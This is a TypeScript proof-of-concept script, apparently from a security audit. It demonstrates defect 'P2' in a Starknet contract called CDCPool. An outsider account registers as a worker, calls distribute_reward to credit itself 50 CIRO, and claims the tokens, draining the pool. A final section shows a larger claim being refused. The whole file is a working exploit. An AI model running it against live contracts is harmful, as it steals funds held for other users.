/**
 * Shows defect P2 of the published CDCPool: any registered worker can credit itself a reward and take all CIRO that
 * the pool holds.
 *
 * npm install starknet tsx
 * Set RPC_URL, CIRO_TOKEN, CDC_POOL; ACCOUNT_ADDRESS and PRIVATE_KEY (who funds the pool), OUTSIDER_ADDRESS and
 * OUTSIDER_PRIVATE_KEY (any account).
 */
import { Account, CallData, RpcError, RpcProvider, type RawArgs, cairo } from 'starknet';

function env(name: string): string {
  const value = process.env[name];
  if (!value) throw new Error(`Set the environment variable ${name}.`);
  return value;
}

const provider = new RpcProvider({ nodeUrl: env('RPC_URL') });
const signer = (role: string, key = `${role}_PRIVATE_KEY`): Account =>
  new Account({ provider, address: env(`${role}_ADDRESS`), signer: env(key) });
const owner = signer('ACCOUNT', 'PRIVATE_KEY');
const outsider = signer('OUTSIDER');
const CIRO = 10n ** 18n;

/** Sends one call, waits, and stops when it reverted. */
async function send(from: Account, contractAddress: string, entrypoint: string, args: RawArgs = {}) {
  const { transaction_hash } = await from.execute({
    contractAddress,
    entrypoint,
    calldata: CallData.compile(args),
  });
  const receipt = await provider.waitForTransaction(transaction_hash);
  if (!receipt.isSuccess()) throw new Error(`${entrypoint} reverted.`);
  return receipt.value;
}

/** The reason why a call is refused; `execute` throws it when it estimates, before anything is sent or paid. */
async function refusal(attempt: Promise<unknown>): Promise<string> {
  try {
    await attempt;
    return 'not refused';
  } catch (error) {
    if (!(error instanceof RpcError)) throw error;
    const text = JSON.stringify(error.baseError);
    return /\('([^']+)'\)/.exec(text)?.[1] ?? /\\"([^"\\]+)\\"/.exec(text)?.[1] ?? error.baseError.message;
  }
}

async function balance(holder: string): Promise<string> {
  const [low] = await provider.callContract({
    contractAddress: env('CIRO_TOKEN'),
    entrypoint: 'balance_of',
    calldata: [holder],
  });
  const cents = (BigInt(low!) * 100n) / CIRO;
  return `${cents / 100n}.${(cents % 100n).toString().padStart(2, '0')} CIRO`;
}

await send(owner, env('CIRO_TOKEN'), 'transfer', {
  recipient: env('CDC_POOL'),
  amount: cairo.uint256(50n * CIRO),
});
await send(outsider, env('CDC_POOL'), 'register_worker', {
  capabilities: {
    gpu_memory: 1,
    cpu_cores: 1,
    ram: 1,
    storage: 1,
    bandwidth: 1,
    capability_flags: 0,
    gpu_model: 0,
    cpu_model: 0,
  },
  proof_of_resources: [],
  location_hash: 0,
});

// #region credit
const reward = {
  worker_id: 1,
  base_reward: cairo.uint256(40n * CIRO),
  performance_bonus: cairo.uint256(10n * CIRO),
};
await send(outsider, env('CDC_POOL'), 'distribute_reward', reward);
await send(outsider, env('CDC_POOL'), 'claim_rewards', { worker_id: 1 });
console.log('outsider', await balance(outsider.address));
console.log('pool    ', await balance(env('CDC_POOL')));
// #endregion credit

// #region stuck
await send(outsider, env('CDC_POOL'), 'distribute_reward', {
  ...reward,
  base_reward: cairo.uint256(9_990n * CIRO),
});
const claim = send(outsider, env('CDC_POOL'), 'claim_rewards', { worker_id: 1 });
console.log('claim of 10,000:', await refusal(claim));
// #endregion stuck
